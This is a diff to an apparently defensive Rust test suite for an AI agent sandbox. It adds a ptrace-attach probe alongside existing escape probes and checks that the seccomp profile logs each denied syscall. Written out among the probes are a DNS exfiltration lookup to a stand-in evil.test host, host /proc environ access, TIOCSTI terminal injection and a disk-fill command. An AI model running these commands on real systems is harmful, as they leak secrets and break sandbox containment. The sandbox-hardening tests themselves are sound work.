@@ -216,6 +216,7 @@ getent hosts c2VjcmV0LWFwaS1rZXk.exfil.evil.test >/dev/null 2>&1; echo EXFIL=$?
 mount -t tmpfs none /tmp 2>/dev/null; echo MOUNT=$?
 unshare -Ur true 2>/dev/null; echo UNSHARE=$?
 [ -e "/proc/$HOSTPID/environ" ]; echo HOSTPROC=$?
+/usr/bin/python3 -c 'import ctypes,sys; l=ctypes.CDLL(None); sys.exit(0 if l.ptrace(16, int(sys.argv[1]), 0, 0) == 0 else 1)' "$HOSTPID" 2>/dev/null; echo PTRACE=$?
 /usr/bin/python3 -c 'import fcntl,termios,sys; fcntl.ioctl(0, termios.TIOCSTI, b"x")' 2>/dev/null; echo TIOCSTI=$?
 head -c 200000000 /dev/zero > /tmp/fill 2>/dev/null; echo DISKFILL=$?
 /usr/bin/id >/dev/null 2>&1; echo UNLISTED=$?
@@ -313,6 +314,7 @@ fn agent_work_and_attacks_through_the_whole_chain() {
             "MOUNT",
             "UNSHARE",
             "HOSTPROC",
+            "PTRACE",
             "TIOCSTI",
             "DISKFILL",
             "UNLISTED",
@@ -389,7 +391,7 @@ fn agent_work_and_attacks_through_the_whole_chain() {
             e.to_string().contains(&net.b.ip.to_string())
         });
         // Syscalls the seccomp profile refuses are seen by its notifier.
-        for syscall in ["mount", "unshare", "ioctl"] {
+        for syscall in ["mount", "unshare", "ioctl", "ptrace"] {
             assert_event(&p.log, "syscall_denied", "alert", |e| {
                 e["syscall"] == syscall
             });
